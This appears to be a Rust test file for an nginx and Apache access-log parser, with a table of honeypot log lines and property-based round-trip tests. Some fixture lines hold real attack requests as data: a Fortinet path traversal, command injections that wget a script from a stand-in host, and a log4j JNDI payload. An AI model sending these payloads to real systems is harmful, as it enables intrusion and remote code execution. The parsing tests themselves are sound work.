//! The table of tricky lines, each with its expected fields, and a round-trip property.

use super::*;
use proptest::prelude::*;

/// Expected fields of a line: (ip, user, utc time, method, target, protocol, status,
/// bytes, referer, ua, forwarded, port, host).
struct Want {
    ip: &'static str,
    user: Option<&'static str>,
    time: &'static str,
    method: Option<&'static str>,
    target: Option<&'static str>,
    protocol: Option<&'static str>,
    status: Option<u16>,
    bytes: Option<u64>,
    referer: Option<&'static str>,
    ua: Option<&'static str>,
    forwarded: &'static [&'static str],
    port: Option<u16>,
    host: Option<&'static str>,
}

const BASE: Want = Want {
    ip: "192.0.2.38",
    user: None,
    time: "2022-07-19T11:23:20Z",
    method: Some("GET"),
    target: Some("/"),
    protocol: Some("HTTP/1.1"),
    status: Some(200),
    bytes: Some(612),
    referer: None,
    ua: None,
    forwarded: &[],
    port: None,
    host: None,
};

fn check(line: &str, format: Format, want: &Want) {
    let p = parse_line(line, format).unwrap_or_else(|e| panic!("{line}\n{e:?}"));
    assert_eq!(p.ip_text, Some(want.ip), "ip of {line}");
    assert_eq!(p.ip, Some(want.ip.parse::<IpAddr>().unwrap()));
    assert_eq!(p.user, want.user, "user of {line}");
    assert_eq!(p.time.unwrap().utc_rfc3339(), want.time, "time of {line}");
    assert_eq!(p.method, want.method, "method of {line}");
    assert_eq!(p.target, want.target, "target of {line}");
    assert_eq!(p.protocol, want.protocol, "protocol of {line}");
    assert_eq!(p.status, want.status, "status of {line}");
    assert_eq!(p.bytes, want.bytes, "bytes of {line}");
    assert_eq!(p.referer, want.referer, "referer of {line}");
    assert_eq!(p.user_agent, want.ua, "ua of {line}");
    assert_eq!(
        p.forwarded_chain().collect::<Vec<_>>(),
        want.forwarded,
        "xff of {line}"
    );
    assert_eq!(p.server_port, want.port, "port of {line}");
    assert_eq!(p.host, want.host, "host of {line}");
}

#[test]
fn tricky_lines_parse() {
    let table: &[(&str, Want)] = &[
        // The four example lines of the reference, honeypot format.
        (
            r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1" 404 232 "-" "Python-urllib/3.8" "-" 443 198.51.100.77"#,
            Want {
                target: Some(
                    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
                ),
                status: Some(404),
                bytes: Some(232),
                ua: Some("Python-urllib/3.8"),
                port: Some(443),
                host: Some("198.51.100.77"),
                ..BASE
            },
        ),
        (
            r#"2001:db8:1:c84::2de - - [18/Jul/2022:03:31:53 +0200] "GET /favicon.ico HTTP/1.1" 404 232 "-" "Mozilla/5.0 zgrab/0.x" "-" 443 [2001:db8:60::face]"#,
            Want {
                ip: "2001:db8:1:c84::2de",
                time: "2022-07-18T01:31:53Z",
                target: Some("/favicon.ico"),
                status: Some(404),
                bytes: Some(232),
                ua: Some("Mozilla/5.0 zgrab/0.x"),
                port: Some(443),
                host: Some("2001:db8:60::face"),
                ..BASE
            },
        ),
        (
            r#"203.0.113.137 - - [19/Jul/2022:05:11:59 +0200] "GET /login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.33/x.sh HTTP/1.1" 400 157 "-" "Hakai/2.0" "-" 80"#,
            Want {
                ip: "203.0.113.137",
                time: "2022-07-19T03:11:59Z",
                target: Some("/login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.33/x.sh"),
                status: Some(400),
                bytes: Some(157),
                ua: Some("Hakai/2.0"),
                port: Some(80),
                ..BASE
            },
        ),
        (
            r#"198.51.100.9 - - [15/Jul/2022:04:44:54 +0200] "GET / HTTP/1.1" 200 3167 "-" "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)" "-""#,
            Want {
                ip: "198.51.100.9",
                time: "2022-07-15T02:44:54Z",
                bytes: Some(3167),
                ua: Some("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
                ..BASE
            },
        ),
        // Empty request, XFF chain, user, referer.
        (
            r#"192.0.2.38 - alice [19/Jul/2022:13:23:20 +0200] "" 400 0 "http://a.example/" "-" "203.0.113.5, 198.51.100.2" 443 www.example.org"#,
            Want {
                user: Some("alice"),
                method: None,
                target: None,
                protocol: None,
                status: Some(400),
                bytes: Some(0),
                referer: Some("http://a.example/"),
                forwarded: &["203.0.113.5", "198.51.100.2"],
                port: Some(443),
                host: Some("www.example.org"),
                ..BASE
            },
        ),
        // Binary junk escaped by nginx, no method.
        (
            r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "\x16\x03\x01\x00\xA5\x01\x00\x00\xA1\x03\x03" 400 157 "-" "-" "-" 443 -"#,
            Want {
                method: None,
                target: None,
                protocol: None,
                status: Some(400),
                bytes: Some(157),
                port: Some(443),
                ..BASE
            },
        ),
        // Protocol-less request, log4j in the UA with escaped quotes.
        (
            r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET /shell?cd+/tmp;wget+http://192.0.2.33/a" 404 153 "-" "${jndi:ldap://192.0.2.33:1389/a} \"quoted\" end\\" "-" 80 192.0.2.1"#,
            Want {
                target: Some("/shell?cd+/tmp;wget+http://192.0.2.33/a"),
                protocol: None,
                status: Some(404),
                bytes: Some(153),
                ua: Some(r#"${jndi:ldap://192.0.2.33:1389/a} \"quoted\" end\\"#),
                port: Some(80),
                host: Some("192.0.2.1"),
                ..BASE
            },
        ),
        // Combined (Apache, `-` byte count), common, and CR line ending.
        (
            r#"192.0.2.38 - bob [19/Jul/2022:13:23:20 +0200] "POST /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.0" 304 - "-" "curl/7.88.1""#,
            Want {
                user: Some("bob"),
                method: Some("POST"),
                target: Some("/cgi-bin/.%2e/%2e%2e/bin/sh"),
                protocol: Some("HTTP/1.0"),
                status: Some(304),
                bytes: None,
                ua: Some("curl/7.88.1"),
                ..BASE
            },
        ),
        (
            "192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] \"GET / HTTP/1.1\" 200 612\r",
            Want { ..BASE },
        ),
        // Bare method with target containing spaces before the protocol.
        (
            r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET /a b HTTP/1.1" 400 0 "-" "-" "-" 443"#,
            Want {
                target: Some("/a b"),
                status: Some(400),
                bytes: Some(0),
                port: Some(443),
                ..BASE
            },
        ),
        // IPv4-mapped client, XFF with a trailing comma, negative offset.
        (
            r#"::ffff:192.0.2.7 - - [19/Jul/2022:06:23:20 -0500] "HEAD / HTTP/1.1" 200 0 "-" "-" "198.51.100.2," 8080 [::1]"#,
            Want {
                ip: "::ffff:192.0.2.7",
                method: Some("HEAD"),
                bytes: Some(0),
                forwarded: &["198.51.100.2"],
                port: Some(8080),
                host: Some("::1"),
                ..BASE
            },
        ),
    ];
    for (line, want) in table {
        check(line, Format::Auto, want);
    }
}

#[test]
fn formats_are_strict_when_asked() {
    let common = r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 612"#;
    let combined =
        r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 612 "-" "ua""#;
    let honeypot = r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 612 "-" "ua" "-" 443 h"#;
    assert!(parse_line(common, Format::Common).is_ok());
    assert!(parse_line(combined, Format::Combined).is_ok());
    assert!(parse_line(honeypot, Format::Honeypot).is_ok());
    assert!(
        parse_line(common, Format::Combined)
            .unwrap_err()
            .reason
            .contains("expected the referer")
    );
    assert!(
        parse_line(combined, Format::Common)
            .unwrap_err()
            .reason
            .contains("common format")
    );
    assert!(
        parse_line(honeypot, Format::Combined)
            .unwrap_err()
            .reason
            .contains("combined format")
    );
    assert!(
        parse_line(combined, Format::Honeypot)
            .unwrap_err()
            .reason
            .contains("X-Forwarded-For")
    );
}

#[test]
fn errors_say_what_and_where() {
    let cases: &[(&str, u32, &str)] = &[
        ("", 1, "empty line"),
        ("not-an-ip - - [x]", 1, "invalid client address"),
        (
            "192.0.2.1 - - 19/Jul/2022:13:23:20 +0200]",
            15,
            "expected '['",
        ),
        (
            "192.0.2.1 - - [19/Jul/2022:13:23:20 +0200",
            42,
            "expected ']'",
        ),
        (
            "192.0.2.1 - - [19/Jux/2022:13:23:20 +0200] \"GET /\" 200 1",
            16,
            "invalid time",
        ),
        (
            "192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] GET / 200 1",
            44,
            "expected '\"' opening the request",
        ),
        (
            "192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET / 200 1",
            44,
            "unterminated request",
        ),
        (
            "192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET /\" abc 1",
            52,
            "expected a status code",
        ),
        (
            "192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET /\" 200 x",
            56,
            "expected a byte count",
        ),
        (
            "192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET /\" 200 1 \"-\" \"ua\" \"-\" http x",
            71,
            "expected a server port",
        ),
        (
            "192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET /\" 200 1 \"-\" \"ua\" \"-\" 80 h extra",
            75,
            "unexpected text after the host",
        ),
        ("192.0.2.1 - -", 14, "expected '['"),
    ];
    for (i, (line, column, needle)) in cases.iter().enumerate() {
        // Auto mode keeps unknown trailing fields (see `auto_keeps_trailing_fields`); the
        // honeypot layout refuses them.
        let format = if i + 3 >= cases.len() {
            Format::Honeypot
        } else {
            Format::Auto
        };
        let e = parse_line(line, format).expect_err(line);
        assert_eq!(e.column, *column, "column for {line:?}: {}", e.reason);
        assert!(e.reason.contains(needle), "{line:?}: {}", e.reason);
        assert!(
            !e.reason.contains("column"),
            "the column is not repeated in the reason: {}",
            e.reason
        );
    }
}

#[test]
fn auto_keeps_trailing_fields_and_whitespace_chains_and_unix_clients() {
    let base = r#"192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 1"#;
    let extras = |line: &str| -> Vec<(String, String)> {
        let p = parse_line(line, Format::Auto).unwrap_or_else(|e| panic!("{line}: {e:?}"));
        p.extra
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    };
    let kv = |pairs: &[(&str, &str)]| -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    };
    // Combined plus $request_time $upstream_response_time, and trailing whitespace.
    let combined = format!(r#"{base} "-" "ua" 0.005 0.004 "#);
    assert_eq!(
        extras(&combined),
        kv(&[("trailing_1", "0.005"), ("trailing_2", "0.004")])
    );
    assert!(parse_line(&combined, Format::Combined).is_err());
    assert_eq!(extras(&format!("{base}\t ")), kv(&[]));
    assert_eq!(extras(&format!("{base} 0.1")), kv(&[("trailing_1", "0.1")]));
    let honeypot = format!(r#"{base} "-" "ua" "-" 443 h.example "quoted x" 7"#);
    assert_eq!(
        extras(&honeypot),
        kv(&[("trailing_1", "quoted x"), ("trailing_2", "7")])
    );
    let not_port = format!(r#"{base} "-" "ua" "-" 0.25 - upstream"#);
    let p = parse_line(&not_port, Format::Auto).unwrap();
    assert_eq!((p.server_port, p.extra.len()), (None, 3));
    let many = format!("{base} {}", "x ".repeat(20));
    let e = extras(&many);
    assert_eq!(e.len(), 8);
    assert_eq!(e[7].1, "x x x x x x x x x x x x x");

    let chained = r#"10.0.0.2, 10.0.0.1, 85.181.35.98 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 1 "-" "ua" "203.0.113.1""#;
    let p = parse_line(chained, Format::Auto).unwrap();
    assert_eq!(p.ip_text, Some("85.181.35.98"));
    assert_eq!(
        p.forwarded_chain().collect::<Vec<_>>(),
        ["10.0.0.2", "10.0.0.1", "85.181.35.98", "203.0.113.1"]
    );
    let unix = r#"unix: - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 1"#;
    let p = parse_line(unix, Format::Auto).unwrap();
    assert_eq!((p.ip_text, p.ip), (Some("unix:"), None));
    assert!(parse_line("10.0.0.2, x - - [", Format::Auto).is_err());
}

/// A field value as nginx writes it: no raw `"` or `\` except as escapes.
fn logged_text() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![
            "[ -!#-\\[\\]-~]{1,8}".prop_map(|s| s),
            Just("\\\"".to_string()),
            Just("\\\\".to_string()),
            "\\\\x[0-9A-F]{2}".prop_map(|s| s),
            "[é€ü]{1,2}".prop_map(|s| s),
        ],
        0..6,
    )
    .prop_map(|parts| parts.concat())
}

proptest! {
    #[test]
    fn round_trip(
        v6 in any::<bool>(),
        a in any::<u32>(),
        b in any::<u128>(),
        user in "[a-z]{1,8}|-",
        secs in 0i64..4_000_000_000,
        off_min in -12i32 * 60..14 * 60,
        method in "[A-Z]{3,7}",
        target in "/[!-~]{0,40}",
        status in 100u16..600,
        bytes in prop::option::of(any::<u64>()),
        referer in logged_text(),
        ua in logged_text(),
        xff in prop::collection::vec(any::<u32>(), 0..3),
        port in prop::option::of(any::<u16>()),
        host in prop::option::of("[a-z]{1,10}\\.example"),
    ) {
        let ip: IpAddr = if v6 { std::net::Ipv6Addr::from(b).into() } else { std::net::Ipv4Addr::from(a).into() };
        let target = target.replace('"', "%22").replace('\\', "%5C");
        let off = time::UtcOffset::from_whole_seconds(off_min * 60).unwrap();
        let instant = time::OffsetDateTime::from_unix_timestamp(secs).unwrap().to_offset(off);
        let fmt = time::macros::format_description!("[day]/[month repr:short]/[year]:[hour]:[minute]:[second] [offset_hour sign:mandatory][offset_minute]");
        let when = instant.format(&fmt).unwrap();
        let xff_text = if xff.is_empty() { "-".to_string() } else {
            xff.iter().map(|x| std::net::Ipv4Addr::from(*x).to_string()).collect::<Vec<_>>().join(", ")
        };
        let bytes_text = bytes.map_or("-".to_string(), |b| b.to_string());
        let field = |s: &str| if s.is_empty() { "-".to_string() } else { s.to_string() };
        let mut line = format!(
            "{ip} - {user} [{when}] \"{method} {target} HTTP/1.1\" {status} {bytes_text} \"{}\" \"{}\" \"{xff_text}\"",
            field(&referer), field(&ua)
        );
        if let Some(port) = port {
            line.push_str(&format!(" {port}"));
            if let Some(h) = &host { line.push_str(&format!(" {h}")); }
        }
        let p = parse_line(&line, Format::Auto).map_err(|e| TestCaseError::fail(format!("{line}: {e:?}")))?;
        if port.is_some() && host.is_some() {
            // The honeypot layout given as a custom format reads the line the same way.
            let custom = crate::logformat::LogFormat::new(
                "$remote_addr - $remote_user [$time_local] \"$request\" $status $body_bytes_sent \"$http_referer\" \"$http_user_agent\" \"$http_x_forwarded_for\" $server_port $host",
                crate::logformat::Dialect::Nginx,
            ).unwrap();
            let q = custom.parse(&line).map_err(|e| TestCaseError::fail(format!("{line}: {e:?}")))?;
            prop_assert_eq!(&q, &p);
        }
        prop_assert_eq!(p.ip, Some(ip));
        prop_assert_eq!(p.user, (user != "-").then_some(user.as_str()));
        prop_assert_eq!(p.time.unwrap().instant, instant);
        prop_assert_eq!(p.method, Some(method.as_str()));
        prop_assert_eq!(p.target, Some(target.as_str()));
        prop_assert_eq!(p.status, Some(status));
        prop_assert_eq!(p.bytes, bytes);
        prop_assert_eq!(p.referer, (!referer.is_empty() && referer != "-").then_some(referer.as_str()));
        prop_assert_eq!(p.user_agent, (!ua.is_empty() && ua != "-").then_some(ua.as_str()));
        prop_assert_eq!(p.forwarded_chain().count(), xff.len());
        prop_assert_eq!(p.server_port, port);
        prop_assert_eq!(p.host, port.and(host.as_deref()));
    }

    #[test]
    fn never_panics(line in "\\PC{0,200}") {
        let _ = parse_line(&line, Format::Auto);
    }
}

#[test]
fn time_variants_of_real_logs_parse_in_every_mode() {
    // (time as logged, UTC, offset in the record)
    let cases = [
        (
            "1/Apr/2014:11:55:44 +0200",
            "2014-04-01T09:55:44Z",
            Some("+0200"),
        ),
        (
            "27/Jun/2013:11:55:44 GMT",
            "2013-06-27T11:55:44Z",
            Some("GMT"),
        ),
        ("27/Jun/2013:11:55:44", "2013-06-27T11:55:44Z", None),
    ];
    for (logged, utc, offset) in cases {
        let line = format!(r#"192.0.2.38 - - [{logged}] "GET / HTTP/1.1" 200 612 "-" "-""#);
        for format in [Format::Auto, Format::Combined] {
            let p = parse_line(&line, format).unwrap_or_else(|e| panic!("{line}\n{e:?}"));
            let t = p.time.expect("a time");
            assert_eq!(t.utc_rfc3339(), utc, "{line}");
            assert_eq!(dash_none(t.offset), offset, "{line}");
        }
    }
}

#[test]
fn virtual_host_prefixes_and_a_missing_user_field_parse_in_auto_mode() {
    let tail =
        r#"198.51.100.7 - - [10/Oct/2023:13:55:36 +0200] "GET / HTTP/1.1" 200 512 "-" "curl/8.0""#;
    // (prefix, host, port)
    let cases = [
        ("www.example.org:443", Some("www.example.org"), Some(443)),
        ("www.example.org", Some("www.example.org"), None),
        ("[2001:db8::1]:8443", Some("2001:db8::1"), Some(8443)),
        ("localhost:80", Some("localhost"), Some(80)),
    ];
    for (prefix, host, port) in cases {
        let line = format!("{prefix} {tail}");
        let p = parse_line(&line, Format::Auto).unwrap_or_else(|e| panic!("{line}\n{e:?}"));
        assert_eq!(p.ip_text, Some("198.51.100.7"), "{line}");
        assert_eq!((p.host, p.server_port), (host, port), "{line}");
        assert_eq!(p.user_agent, Some("curl/8.0"), "{line}");
        // The strict formats still refuse it, at the first column.
        let e = parse_line(&line, Format::Combined).unwrap_err();
        assert_eq!(e.column, 1, "{line}");
    }
    // An error after the prefix is reported at its column in the whole line.
    let bad = "www.example.org:443 198.51.100.7 - - [10/Oct/2023:13:55:36 +0200] \"GET /\" abc 1";
    let e = parse_line(bad, Format::Auto).unwrap_err();
    assert!(e.reason.contains("status"), "{e:?}");
    assert_eq!(&bad[e.column as usize - 1..][..3], "abc");
    // Not a host name, or no client after it: still an invalid client address.
    for bad in [
        "www.example.org:http 198.51.100.7 - - [10/Oct/2023:13:55:36 +0200] \"GET /\" 200 1",
        "www.example.org www.example.net - - [10/Oct/2023:13:55:36 +0200] \"GET /\" 200 1",
        "wh@t 198.51.100.7 - - [10/Oct/2023:13:55:36 +0200] \"GET /\" 200 1",
    ] {
        let e = parse_line(bad, Format::Auto).unwrap_err();
        assert!(e.reason.contains("invalid client address"), "{bad}: {e:?}");
    }

    // `$remote_addr - [$time_local] ...`: no `$remote_user` field.
    let line =
        r#"198.51.100.7 - [10/Oct/2023:13:55:36 +0200] "GET / HTTP/1.1" 200 512 "-" "curl/8.0""#;
    let p = parse_line(line, Format::Auto).unwrap_or_else(|e| panic!("{e:?}"));
    assert_eq!((p.user, p.status), (None, Some(200)));
    assert!(parse_line(line, Format::Combined).is_err());
}

#[test]
fn syslog_wrapped_lines_parse_in_auto_mode_with_the_header_kept() {
    let access =
        r#"198.51.100.7 - - [08/Jul/2023:11:07:07 +0000] "GET /x HTTP/1.1" 404 5 "-" "curl/8.0""#;
    for header in [
        "Jul  8 11:07:07 web-1 nginx[2869]: ",
        "<190>1 2023-07-08T11:07:07Z web-1 nginx 2869 - - ",
        // A virtual-host prefix inside the wrapper.
        "<190>Jul  8 11:07:07 web-1 nginx: www.example.org:443 ",
    ] {
        let line = format!("{header}{access}");
        let p = parse_line(&line, Format::Auto).unwrap_or_else(|e| panic!("{line}\n{e:?}"));
        assert_eq!(p.ip_text, Some("198.51.100.7"), "{line}");
        assert_eq!((p.status, p.target), (Some(404), Some("/x")), "{line}");
        let w = p.syslog().unwrap();
        assert_eq!((w.host, w.app), ("web-1", "nginx"), "{line}");
        assert!(p.extra.is_empty(), "{line}");
        assert!(parse_line(&line, Format::Combined).is_err());
    }
    // A bad message inside a good header: its column in the whole line.
    let line = "Jul  8 11:07:07 web-1 nginx: 198.51.100.7 - - [08/Jul/2023:11:07:07 +0000] \"GET /\" abc 1";
    let e = parse_line(line, Format::Auto).unwrap_err();
    assert_eq!(&line[e.column as usize - 1..][..3], "abc", "{e:?}");
}

#[test]
fn a_forwarded_chain_before_the_client_parses_in_auto_mode() {
    let tail = r#"- - [10/Oct/2023:13:55:36 +0200] "GET / HTTP/1.1" 200 512 "-" "curl/8.0""#;
    // (prefix, client, the client chosen, forwarded)
    let cases: [(&str, &str, &str, &[&str]); 7] = [
        (
            r#""203.0.113.5, 198.51.100.2""#,
            "192.0.2.10",
            "192.0.2.10",
            &["203.0.113.5", "198.51.100.2"],
        ),
        (
            "2001:db8::5, 198.51.100.2",
            "192.0.2.10",
            "192.0.2.10",
            &["2001:db8::5", "198.51.100.2"],
        ),
        ("203.0.113.5", "192.0.2.10", "192.0.2.10", &["203.0.113.5"]),
        (r#""-""#, "192.0.2.10", "192.0.2.10", &[]),
        ("-", "2001:db8::10", "2001:db8::10", &[]),
        // Behind a private load balancer, the client is the chain's last public address.
        (
            r#""203.0.113.5, 198.51.100.2, 10.0.0.3""#,
            "10.0.0.9",
            "198.51.100.2",
            &["203.0.113.5", "198.51.100.2", "10.0.0.3"],
        ),
        // All private: the logged client stays.
        (r#""10.0.0.3""#, "10.0.0.9", "10.0.0.9", &["10.0.0.3"]),
    ];
    for (prefix, client, chosen, forwarded) in cases {
        let line = format!("{prefix} {client} {tail}");
        let p = parse_line(&line, Format::Auto).unwrap_or_else(|e| panic!("{line}\n{e:?}"));
        assert_eq!(p.ip_text, Some(chosen), "{line}");
        assert_eq!(p.ip, chosen.parse().ok(), "{line}");
        assert_eq!(p.forwarded_chain().collect::<Vec<_>>(), forwarded, "{line}");
        assert_eq!(
            (p.status, p.user_agent),
            (Some(200), Some("curl/8.0")),
            "{line}"
        );
        assert!(parse_line(&line, Format::Combined).is_err(), "{line}");
    }
    // With an X-Forwarded-For field at the end too: the prefix's entries come first.
    let line = r#""203.0.113.5" 192.0.2.10 - - [10/Oct/2023:13:55:36 +0200] "GET / HTTP/1.1" 200 512 "-" "ua" "198.51.100.4" 443 h.test"#;
    let p = parse_line(line, Format::Auto).unwrap();
    assert_eq!(
        p.forwarded_chain().collect::<Vec<_>>(),
        ["203.0.113.5", "198.51.100.4"]
    );
    // Looks like a chain but is not one: the error stays the access parser's.
    for bad in [
        format!(r#""203.0.113.5, junk" 192.0.2.10 {tail}"#),
        format!(r#""203.0.113.5" junk {tail}"#),
        format!("203.0.113.5, 192.0.2.10 {tail}").replace(" - - [", " - [x"),
        format!(r#""203.0.113.5 192.0.2.10 {tail}"#),
    ] {
        let e = parse_line(&bad, Format::Auto).unwrap_err();
        if bad.starts_with('"') {
            assert_eq!(e.column, 1, "{bad}: {e:?}");
            assert!(e.reason.contains("invalid client address"), "{bad}: {e:?}");
        } else {
            assert!(e.reason.contains("time"), "{bad}: {e:?}");
        }
    }
}
